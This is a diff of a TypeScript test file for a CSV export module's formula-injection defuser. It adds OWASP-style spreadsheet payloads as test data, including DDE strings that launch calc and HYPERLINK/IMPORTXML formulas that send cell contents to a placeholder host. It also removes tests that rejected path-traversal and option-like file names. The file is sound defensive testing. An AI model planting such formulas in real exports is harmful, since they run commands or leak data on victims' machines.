@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises'
+import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { PassThrough, type Writable } from 'node:stream'
@@ -6,11 +6,12 @@ import { text as textOf } from 'node:stream/consumers'
 import { parse } from 'csv-parse/sync'
 import { afterEach, beforeEach, expect, test } from 'vitest'
 import { dictionary } from '../../db/dictionary/index.ts'
-import { openOutput, openOutputFile } from '../../src/exchange/output.ts'
+import { formOf } from '../../src/exchange/forms.ts'
+import { openOutputFile } from '../../src/exchange/output.ts'
 import { columnsOf, type Report } from '../../src/exchange/report.ts'
 import { defused } from '../../src/exchange/write-csv.ts'
 import { textLines } from '../../src/exchange/write-text.ts'
-import { writerFor, writers } from '../../src/exchange/writers.ts'
+import { writers } from '../../src/exchange/writers.ts'
 import type { Values } from '../../src/kernel/entry.ts'
 import { cells } from '../../src/kernel/text.ts'
 
@@ -84,7 +85,30 @@ test.each([
   '＋1',
   '－1',
   '＠x',
+  // What OWASP lists besides, and what was used.
+  '\n=1',
+  '\r=1',
+  '\t+1',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|calc!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("//x/?"&A1,"click")',
+  '=IMPORTXML(CONCAT("//x?",A1),"//a")',
+  '=DDE("cmd";"/C calc";"x")',
+  '\u200e=1',
+  '\u00a0=1',
+  '\u3000＝1',
 ])('no spreadsheet takes %j for a formula', cell => expect(defused(cell)).toMatch(/^'/))
+
+test.each([
+  ['blue;=1+1', "blue;'=1+1"],
+  ['blue;  @x;red', "blue;'  @x;red"],
+  // What nobody sees is made visible, and then stands first.
+  ['blue; \u200b@x;red', 'blue; \ufffd@x;red'],
+  ['a;"=1', `a;'"=1`],
+  ['=1;+1', "'=1;'+1"],
+  ['a;b', 'a;b'],
+])('nor what comes after a semicolon in %j', (cell, written) => expect(defused(cell)).toBe(written))
 
 test.each(['A-1', '1-2', 'a=b', '订单', ''])('%j is left as it is', cell =>
   expect(defused(cell)).toBe(cell),
@@ -133,8 +157,10 @@ test('text: 80 cells, columns that do not fit go on below, totals and the last l
 })
 
 test('a file is written as its name says', () => {
-  expect(writerFor('ship.CSV')).toBe(writers.csv)
-  expect(writerFor('ship.txt')).toBe(writers.text)
+  expect(formOf('ship.CSV')).toBe('csv')
+  expect(formOf('ship.txt')).toBe('text')
+  expect(formOf('so.pdf')).toBe('pdf')
+  expect(formOf('.pdfx')).toBe('text')
 })
 
 let directory: string
@@ -142,42 +168,6 @@ beforeEach(async () => {
   directory = await mkdtemp(join(tmpdir(), 'dingdan-output-'))
 })
 afterEach(() => rm(directory, { recursive: true }))
-
-test('a file asked for on the screen is new, private and in its directory', async () => {
-  const output = await openOutput('ship.csv', join(directory, 'out'))
-  if (!output.ok) throw new Error('refused')
-  await writers.csv(report(rows), 'en', output.value.stream)
-  expect(output.value.path).toBe(join(directory, 'out', 'ship.csv'))
-  expect((await stat(output.value.path)).mode & 0o777).toBe(0o600)
-  expect((await readFile(output.value.path, 'utf8')).split('\n')).toHaveLength(4)
-  expect(await openOutput('ship.csv', join(directory, 'out'))).toMatchObject({
-    ok: false,
-    refusal: { field: 'output', message: { number: 96 } },
-  })
-})
-
-test.each([
-  '',
-  '.',
-  '..',
-  '../x',
-  'a..b',
-  '/etc/x',
-  'a/b',
-  '-rf',
-  '.hidden',
-  'a b',
-  'a\u0000',
-  '订单.csv',
-  'a\u202eb',
-  '%2e%2e',
-  'x'.repeat(65),
-])('the name %j is refused', async name =>
-  expect(await openOutput(name, directory)).toMatchObject({
-    ok: false,
-    refusal: { message: { number: 97 } },
-  }),
-)
 
 test('nothing is written through a link, over a file, or where there is no directory', async () => {
   await writeFile(join(directory, 'old'), 'kept')
